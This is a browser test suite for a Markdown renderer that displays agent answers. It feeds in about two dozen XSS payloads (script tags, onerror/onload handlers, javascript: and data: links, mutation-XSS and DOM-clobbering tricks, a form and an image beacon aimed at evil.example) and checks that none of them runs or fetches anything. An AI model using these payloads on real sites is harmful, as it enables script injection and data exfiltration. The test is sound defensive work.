"""Markdown from agents is drawn, and nothing in it runs, loads or leaves the page unasked."""

from __future__ import annotations

import pytest
from playwright.async_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.timeout(150)]

ATTACKING_CHART = """```carrel-chart
{"type": "bar", "title": "<img src=x onerror=window.attacked=1>", "unit": "",
 "labels": ["<svg onload=window.attacked=1>"],
 "series": [{"name": "<script>window.attacked=1</script>", "values": [1]}]}
```"""
ATTACKS = (
    "<script>window.attacked = 1</script>",
    "<img src=x onerror='window.attacked = 1'>",
    "<svg onload='window.attacked = 1'></svg>",
    "<svg><animate onbegin='window.attacked = 1' attributeName=x></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror='window.attacked = 1'></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.attacked = 1</script>'></iframe>",
    "<a href='javascript:window.attacked = 1'>raw link</a>",
    "<details open ontoggle='window.attacked = 1'>x</details>",
    "<form action='https://evil.example/'><button>raw button</button></form>",
    "<style>* { display: none }</style>",
    "[link](javascript:window.attacked=1)",
    "[link](JaVaScRiPt:window.attacked=1)",
    "[link](&#106;avascript:window.attacked=1)",
    "[link](data:text/html,<script>window.attacked=1</script>)",
    "[link](vbscript:window.attacked=1)",
    "<javascript:window.attacked=1>",
    "![image](https://evil.example/leak.png?secret)",
    '![x](x" onerror="window.attacked=1)',
    "![x](javascript:window.attacked=1)",
    '[a]: javascript:window.attacked=1 "x"\n\n[link][a]',
    "| a |\n|---|\n| <img src=x onerror=window.attacked=1> |",
    ATTACKING_CHART,
    "`<img src=x onerror=window.attacked=1>`",
    "<x id=attacked name=attacked>",
)


async def test_attacks_in_markdown_do_nothing(visit, scripted):
    visitor = await visit(scripted)
    page = visitor.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await visitor.answered(await visitor.ask("repeat \n\n" + "\n\n".join(ATTACKS)), "succeeded")
    answer = page.locator(".answer")
    await expect(answer).to_contain_text("<script>window.attacked = 1</script>")
    for link in await answer.locator("a").all():
        await link.evaluate("node => { node.target = ''; node.addEventListener('click', (e) => e.preventDefault()) }")
        await link.click()
    assert await page.evaluate("'attacked' in window") is False
    dangerous = "script, style, iframe, img, form, object, embed, base, meta, link, animate"
    assert await answer.locator(dangerous).count() == 0
    addresses = await answer.locator("a").evaluate_all("nodes => nodes.map((node) => node.getAttribute('href'))")
    assert [address for address in addresses if not address.startswith("https://")] == []
    names = await answer.locator("*").evaluate_all("nodes => nodes.flatMap((node) => node.getAttributeNames())")
    assert [name for name in names if name.startswith("on") or name in ("id", "name", "style")] == []
    assert [url for url in asked if "evil" in url] == []


async def test_a_link_leaves_the_page_without_telling_where_from(visit, scripted):
    visitor = await visit(scripted)
    run = await visitor.ask("repeat [the site](https://example.org/a)")
    link = (await visitor.answered(run)).get_by_role("link", name="the site")
    assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert await link.get_attribute("target") == "_blank"


async def test_markdown_is_drawn(visit, scripted):
    visitor = await visit(scripted)
    text = "repeat # Title\n\n| a | b |\n|:--|--:|\n| x | 1 |\n\n1. one\n2. two\n\n- [x] done\n\n**bold** `code`"
    await visitor.page.get_by_label("Your message").fill(text)
    await visitor.page.keyboard.press("Enter")
    answer = await visitor.answered(visitor.page.locator("article.run"))
    await expect(answer.get_by_role("heading", name="Title")).to_be_visible()
    await expect(answer.get_by_role("cell", name="1")).to_have_css("text-align", "right")
    await expect(answer.get_by_role("listitem")).to_have_count(3)
    await expect(answer.get_by_role("checkbox", name="done")).to_be_disabled()
    await expect(answer.locator("strong")).to_have_text("bold")


async def test_a_growing_text_redraws_only_its_last_block(visit, scripted):
    visitor = await visit(scripted, log_in=False)
    kept = await visitor.page.evaluate(
        """async () => {
          const { MarkdownView } = await import("/static/markdown.js");
          const node = document.body.appendChild(document.createElement("div"));
          const view = new MarkdownView(node);
          view.update("# One\\n\\nTwo", { final: false });
          const [first, second] = node.children;
          view.update("# One\\n\\nTwo and more\\n\\nThree", { final: true });
          return [node.children[0] === first, node.children[1] === second, node.children.length];
        }"""
    )
    assert kept == [True, False, 3]
